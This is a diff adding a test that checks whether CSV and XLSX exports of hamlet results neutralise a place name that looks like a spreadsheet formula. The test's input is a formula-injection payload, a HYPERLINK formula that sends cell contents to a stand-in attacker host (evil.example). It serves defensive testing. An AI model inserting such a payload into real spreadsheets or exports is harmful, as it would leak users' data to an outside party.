@@ -123,3 +123,18 @@ def test_choropleth_is_a_png_and_geojson_carries_the_values():
     values = {f["properties"]["code"]: f["properties"]["value"] for f in collection["features"]}
     assert values == {"AP01": 100.0, "AP02": 0.0}
     assert collection["features"][0]["geometry"]["type"] == "Polygon"
+
+
+def test_a_hamlet_name_that_looks_like_a_formula_is_inert_in_csv_and_xlsx():
+    results, _ = _results()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ấp")'
+    text = exports.csv_bytes(results.rows, {"AP01": hostile}).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text
+    assert ',=HYPERLINK' not in text and ',"=HYPERLINK' not in text
+    summary = results.scorecard_summary.assign(name=hostile)
+    book = load_workbook(io.BytesIO(exports.xlsx_bytes(results.rows, results.scorecard, summary, results.coverage,
+                                                        {"AP01": hostile})))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    hostile_cells = [c for c in cells if "HYPERLINK" in c.value]
+    assert hostile_cells, "the hostile name should appear in the workbook"
+    assert all(c.value.startswith("'=") and c.data_type == "s" for c in hostile_cells)
